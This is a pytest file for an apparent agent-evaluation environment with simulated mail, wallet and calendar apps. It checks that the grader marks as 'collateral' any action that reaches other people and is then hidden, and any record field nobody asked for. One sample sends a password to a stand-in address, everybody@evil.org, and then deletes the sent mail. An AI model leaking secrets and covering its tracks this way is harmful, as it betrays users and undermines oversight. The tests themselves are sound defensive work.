"""Desk's damage: what was done to others stays done, and records hold nothing nobody asked for."""

from __future__ import annotations

import random
from collections.abc import Iterator
from typing import Any

import pytest
from desk_play import after, calls_of, failed, newcomer, scenarios

from agentopd.envs.desk.api import ApiError, Call, call
from agentopd.envs.desk.desk import APPS, Desk
from agentopd.envs.desk.state import State
from agentopd.envs.desk.tasks.library import TEMPLATES, Scenario
from agentopd.envs.desk.tasks.oracle import Oracle
from agentopd.envs.desk.tasks.story import Template
from agentopd.envs.desk.tasks.task import evaluate
from agentopd.envs.desk.world import Change, World, changes

every_template = pytest.mark.parametrize("template", TEMPLATES, ids=lambda t: t.name)
NAMED: dict[str, Template] = {template.name: template for template in TEMPLATES}
TABLES = {
    "contact_id": "contacts",
    "message_id": "messages",
    "event_id": "events",
    "todo_id": "todos",
    "request_id": "requests",
    "song_id": "songs",
    "playlist_id": "playlists",
}
VALUES: dict[str, Any] = {
    "place": "Mars",
    "birthday": "1900-01-01",
    "due": "2020-01-01",
    "date": "2020-01-01",
    "start": "00:01",
    "end": "23:58",
    "done": True,
    "email": "else@b.org",
    "note": "invented",
}


def played_on(played: Scenario, calls: list[Call]) -> State:
    """The state after some calls; a refused one changes nothing."""
    state = newcomer(played)
    for each in calls:
        attempt(state, each)
    return state


def attempt(state: State, each: Call) -> bool:
    """Whether a call is carried out."""
    try:
        Desk(state).call(each)
    except ApiError:
        return False
    return True


def reaching_others(world: World) -> list[list[Call]]:
    """Ways to bother somebody and then to hide it, by the number the next record will have."""
    mail, request = world.messages.last + 1, world.requests.last + 1
    to, some = world.people[0], next(iter(world.messages)).id
    hide = call("mail.delete", message_id=mail)
    return [
        [call("mail.send", to="everybody@evil.org", subject="password", body="amber12"), hide],
        [call("mail.reply", message_id=some, body="No!"), hide],
        [call("mail.forward", message_id=some, to=to), hide],
        [
            call("mail.send", to=to, subject="x", body="y"),
            call("mail.mark", message_id=mail, read=False),
            hide,
        ],
        [call("wallet.request", to=to, amount=5), call("wallet.cancel", request_id=request)],
        [call("wallet.send", to=to, amount=5), call("wallet.request", to=to, amount=5)],
    ]


@every_template
def test_what_reached_somebody_cannot_be_hidden(template: Template) -> None:
    for seed, played in enumerate(scenarios(template)):
        ways = reaching_others(played.world)
        state = played_on(played, ways[seed % len(ways)])
        assert Oracle(played.task, newcomer(played)).plan(state) is None
        for each in calls_of(played):
            attempt(state, each)
        assert "collateral" in failed(evaluate(played.task, played.world, state))


def test_a_mail_that_was_sent_stays_and_one_received_goes() -> None:
    played = scenarios(NAMED["mail_send"])[0]
    state = newcomer(played)
    sent = Desk(state).call(played.task.goals[0].call)["sent"]
    with pytest.raises(ApiError, match="Error 409: a mail that was sent stays in the folder sent"):
        Desk(state).call(call("mail.delete", message_id=sent))
    assert sent in state.world.messages.rows
    received = next(m.id for m in state.world.messages if m.folder == "inbox")
    Desk(state).call(call("mail.delete", message_id=received))
    assert received not in state.world.messages.rows


def meddling(world: World, made: Change) -> Iterator[Call]:
    """Every write to a record that was just made, each with one value nobody asked for."""
    record = made.after
    assert record is not None
    number = next((name for name, table in TABLES.items() if table == made.table), "")
    for app in APPS.values():
        for api in app.apis.values():
            if not api.writes or number not in [p.name for p in api.parameters]:
                continue
            if api.name in ("update", "cancel", "add_song", "remove_song"):
                for parameter in api.parameters:
                    if parameter.name == number and len(api.parameters) > 1:
                        continue
                    value = VALUES.get(parameter.name, "other")
                    if parameter.name == "song_id":
                        value = random.Random(record.id).choice(list(world.songs)).id
                    yield call(
                        f"{app.name}.{api.name}", **{number: record.id, parameter.name: value}
                    )


@every_template
def test_a_write_to_the_record_just_made_fails(template: Template) -> None:
    for played in scenarios(template):
        *before, end = calls_of(played)
        state = played_on(played, before)
        for made in changes(played.world, state.world):
            if made.before is not None:
                continue
            for write in meddling(state.world, made):
                copy = state.copy()
                if attempt(copy, write) and copy.world != state.world:
                    plan = Oracle(played.task, newcomer(played)).plan(copy.copy())
                    assert plan is None or len(plan[-1]) > 1, "there is something to mend"
                    attempt(copy, end)
                    assert failed(evaluate(played.task, played.world, copy)) >= {"collateral"}


@every_template
def test_a_field_that_nobody_named_fails(template: Template) -> None:
    for played in scenarios(template):
        calls = calls_of(played)
        for goal in played.task.goals:
            api = APPS[goal.call.app].apis[goal.call.api]
            if not any(expected.kind == "made" for expected in goal.changes):
                continue
            for parameter in api.parameters:
                if parameter.name in goal.call.arguments:
                    continue
                filled = {**goal.call.arguments, parameter.name: VALUES[parameter.name]}
                swapped = [Call(api.app, api.name, filled) if c == goal.call else c for c in calls]
                assert failed(after(played, swapped)) == {"goal", "collateral"}


def test_a_made_record_may_have_what_the_task_leaves_free() -> None:
    """A mail that was sent may be marked as unread."""
    played = scenarios(NAMED["mail_send"])[0]
    *before, end = calls_of(played)
    number = played.world.messages.last + 1
    mark = call("mail.mark", message_id=number, read=False)
    assert failed(after(played, [*before, mark, end])) == set()


def any_call(state: State, played: Scenario, app: str, luck: random.Random) -> Call:
    """A write of `app`, about what the task is about more often than not, or a goal's, or what
    the oracle says.
    """
    world, task = state.world, played.task
    kind = luck.random()
    if kind < 0.3 and task.goals:
        return luck.choice(task.goals).call
    if kind < 0.5 and (plan := Oracle(task, newcomer(played)).plan(state)):
        return luck.choice([c for c in plan[-1] if c.api != "complete_task"] or plan[0])
    apis = [api for api in APPS[app].apis.values() if api.writes]
    api, arguments = luck.choice(apis), {}
    touched = {c.table: (c.after or c.before) for c in changes(played.world, world)}
    for parameter in api.parameters:
        if not parameter.required and luck.random() < 0.6:
            continue
        if (table := TABLES.get(parameter.name)) is not None:
            rows = list(getattr(world, table).rows) or [1]
            last = touched.get(table)
            picked = last.id if last is not None and luck.random() < 0.6 else luck.choice(rows)
            arguments[parameter.name] = picked
        elif list in parameter.kinds:
            arguments[parameter.name] = luck.sample(list(world.songs.rows), 2)
        elif float in parameter.kinds:
            arguments[parameter.name] = luck.choice((7.5, 300.0))
        elif bool in parameter.kinds:
            arguments[parameter.name] = luck.random() < 0.5
        else:
            arguments[parameter.name] = luck.choice((world.people[0], "2026-07-01", "10:00", "x"))
    return Call(app, api.name, arguments)


@every_template
def test_what_is_lost_is_never_solved_and_what_is_not_is(template: Template) -> None:
    """Whatever is called, from each state on: solved by ending here means a plan, no plan means no
    plan ever after, and a plan, played to its end, solves the task.
    """
    for seed, played in enumerate(scenarios(template)[:6]):
        luck = random.Random(f"{template.name}/{seed}")
        app = luck.choice([*template.apps, *template.apps, "music", "mail", "wallet", "calendar"])
        oracle, state, lost = Oracle(played.task, newcomer(played)), newcomer(played), False
        for _ in range(8):
            attempt(state, any_call(state, played, app, luck))
            plan = oracle.plan(state)
            assert plan is None or not lost
            lost = plan is None
            ended = state.copy()
            attempt(ended, calls_of(played)[-1])
            solved = not failed(evaluate(played.task, played.world, ended))
            assert not (solved and lost)
        following = state.copy()
        for stage in oracle.plan(state) or []:
            assert all(attempt(following, each) for each in stage)
        assert lost == bool(failed(evaluate(played.task, played.world, following)))


def test_songs_in_another_order_can_be_put_back() -> None:
    """By hand: taken off in front and put on behind; the rest follows it."""
    played = scenarios(NAMED["todo_tick"])[0]
    number, songs = (lambda p: (p.id, p.songs))(next(iter(played.world.playlists)))
    off = call("music.remove_song", playlist_id=number, song_id=songs[0])
    on = call("music.add_song", playlist_id=number, song_id=songs[0])
    state = played_on(played, [off, on])
    plan = Oracle(played.task, newcomer(played)).plan(state)
    assert plan is not None
    for each in [each for stage in plan for each in stage]:
        Desk(state).call(each)
    assert state.world.playlists.rows[number].songs == songs
    assert not failed(evaluate(played.task, played.world, state))


def test_what_a_read_would_show_may_be_deleted_before_it_was_read() -> None:
    """The event is off before anybody looked at its guests; who guesses them can still succeed."""
    played = scenarios(NAMED["cancel_event"])[0]
    delete = next(g.call for g in played.task.goals if g.call.api == "delete")
    state = played_on(played, [delete])
    plan = Oracle(played.task, newcomer(played)).plan(state)
    assert plan is not None
    assert [str(c).partition("(")[0] for c in plan[-1]] == (
        ["mail.send"] * (len(played.task.goals) - 1) + ["supervisor.complete_task"]
    )
    for each in [each for stage in plan for each in stage]:
        Desk(state).call(each)
    assert not failed(evaluate(played.task, played.world, state))
